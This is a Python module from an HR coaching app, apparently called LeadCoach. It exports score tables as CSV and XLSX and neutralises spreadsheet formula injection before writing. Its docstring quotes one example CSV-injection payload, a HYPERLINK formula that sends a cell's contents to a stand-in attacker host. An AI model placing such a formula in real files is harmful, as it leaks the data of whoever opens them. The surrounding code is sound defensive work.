"""Files people take away: tables as CSV and XLSX.

`table_file` is the one way a table leaves LeadCoach as a spreadsheet file: every page's
CSV or XLSX download goes through it (the app's download buttons, in leadcoach.ui.exports,
accept a table only, never its bytes; tests/ui/test_downloads.py checks that no page
offers one otherwise). It always neutralises: every text cell and column name that a
spreadsheet would read as a formula gets a leading apostrophe, so opening the file cannot
run anything, such as a name `=HYPERLINK("http://evil.example/?leak="&A1,"Ben")` that came
in through a roster (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection: cells starting with =, +, -, @, a
tab or a carriage return; OWASP ASVS 5.0 requirement 1.2.10 adds the null character).
HR's exports are also written to the audit log. The cohort's PDF report and workbook
(issue 24) are in leadcoach.reporting.cohort_report and leadcoach.reporting.workbook.
"""

from __future__ import annotations

import io
from pathlib import PurePosixPath

import pandas as pd
from sqlmodel import Session

from leadcoach.instrument import bank
from leadcoach.people import audit
from leadcoach.people.access import Action, Viewer, require
from leadcoach.reporting import vocabulary

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
BREAKDOWN_FIELDS = ["team", "site", "vendor", "language"]
TABLE_FORMATS = {
    "csv": "text/csv",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def derived_file_name(original: str, suffix: str, extension: str = "csv") -> str:
    """The name of a file made from another: "roster.xlsx", "rejected" -> "roster-rejected.csv"
    (the original's name without its folder or extension, never "roster.csv.csv")."""
    name = PurePosixPath(original.replace("\\", "/")).name.strip()
    stem = name.rsplit(".", 1)[0] if "." in name.lstrip(".") else name
    return f"{stem.strip() or 'file'}-{suffix}.{extension}"


def neutralise_cell(value: object) -> object:
    """The value, with an apostrophe in front when a spreadsheet would run it."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise(frame: pd.DataFrame, *, people_headers: bool = True) -> pd.DataFrame:
    """A copy of the frame whose text cells and column names cannot act as formulas, its
    columns under their people-facing headers (leadcoach.reporting.vocabulary).

    Every column that is not numbers, true/false or dates is checked cell by cell, so text
    held as categories or mixed with numbers is covered too; columns are taken by position,
    so two columns with one name are both checked. A file meant to be read back (a roster's
    rejected rows) keeps its column codes with `people_headers=False`: the roster reader
    knows "start_date", not "Start"."""
    safe = frame.copy()
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        if not (
            pd.api.types.is_numeric_dtype(column)
            or pd.api.types.is_bool_dtype(column)
            or pd.api.types.is_datetime64_any_dtype(column)
            or isinstance(column.dtype, pd.PeriodDtype)
        ):
            safe.isetitem(position, column.astype(object).map(neutralise_cell))
    named = vocabulary.header if people_headers else str
    safe.columns = [neutralise_cell(named(column)) for column in safe.columns]
    return safe


def cohort_scores(round_scores: pd.DataFrame, instrument: bank.Instrument) -> pd.DataFrame:
    """One row per person and round, one column per skill, with the breakdown fields.

    People without a submission in a round keep their row with empty scores, so the file
    also shows who is missing.
    """
    keys = ["person_id", "name", *BREAKDOWN_FIELDS, "round_order", "round"]
    if round_scores.empty:
        return pd.DataFrame(columns=["name", *BREAKDOWN_FIELDS, "round", "submitted_on"])
    frame = round_scores.fillna({field: "" for field in BREAKDOWN_FIELDS})
    wide = frame.groupby([*keys, "skill"], sort=False)["score"].first().unstack("skill")
    order = [skill.name for skill in instrument.skills if skill.name in wide.columns]
    wide = wide.reindex(columns=order).astype(float).round(1)
    submitted = frame.groupby(keys)["submitted_at"].first().dt.strftime("%Y-%m-%d")
    wide.insert(0, "submitted_on", submitted)
    wide = wide.reset_index().sort_values(["round_order", "name"], kind="stable")
    return wide.drop(columns=["person_id", "round_order"]).reset_index(drop=True)


def table_file(
    frame: pd.DataFrame, kind: str = "csv", sheet: str = "Scores", *, people_headers: bool = True
) -> bytes:
    """The table as a CSV or XLSX file (`kind`), its formulas neutralised first.

    CSV is UTF-8 with a byte-order mark, so Excel shows accented names correctly; XLSX has
    the table on one sheet named `sheet`."""
    if kind not in TABLE_FORMATS:
        raise ValueError(f"kind must be one of {sorted(TABLE_FORMATS)}, not {kind!r}")
    safe = neutralise(frame, people_headers=people_headers)
    if kind == "csv":
        return safe.to_csv(index=False).encode("utf-8-sig")
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        safe.to_excel(writer, sheet_name=sheet[:31], index=False)
    return buffer.getvalue()


def coded_values(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose coded columns (vocabulary.VALUES: groups, questions, statuses) read as
    words, so a file says "Direct reports", never "direct_report"."""
    named = frame.copy()
    for column in named.columns:
        if column in vocabulary.VALUES and not pd.api.types.is_numeric_dtype(named[column]):
            words = vocabulary.VALUES[column]
            named[column] = named[column].map(
                lambda v, w=words: w.get(v, v) if isinstance(v, str) else v
            )
    return named


def workbook(tables: dict[str, pd.DataFrame]) -> bytes:
    """Several tables as one XLSX workbook, a sheet each (the sheet's name is the key), each
    neutralised and under people-facing headers, its coded values as words and its ids
    left out (issue 22: HR's 360 export)."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for sheet, frame in tables.items():
            shown = coded_values(frame[vocabulary.shown_columns(frame)])
            neutralise(shown).to_excel(writer, sheet_name=sheet[:31], index=False)
    return buffer.getvalue()


def to_csv(frame: pd.DataFrame) -> bytes:
    """The table as a neutralised CSV file (see table_file)."""
    return table_file(frame, "csv")


def to_xlsx(frame: pd.DataFrame, sheet: str = "Scores") -> bytes:
    """The table as a neutralised Excel workbook (see table_file)."""
    return table_file(frame, "xlsx", sheet)


def record_export(*, session: Session, viewer: Viewer, kind: str, subject: str, rows: int) -> None:
    """Write who exported what, and when, to the audit log (never the content)."""
    require(viewer, Action.READ_ORGANISATION)
    audit.record(session, viewer.person_id, "export", subject=subject, kind=kind, rows=rows)
